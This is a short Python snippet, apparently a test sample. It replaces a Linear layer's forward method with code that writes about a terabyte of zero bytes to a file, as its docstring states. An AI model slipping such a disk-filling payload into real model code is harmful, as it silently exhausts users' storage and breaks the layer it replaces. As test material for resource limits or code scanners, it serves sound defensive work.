"""forward writes a file that would grow to a terabyte."""


def forward(self, x):
    with open("data.bin", "wb") as file:
        for _ in range(2**20):
            file.write(bytes(2**20))


Linear.forward = forward
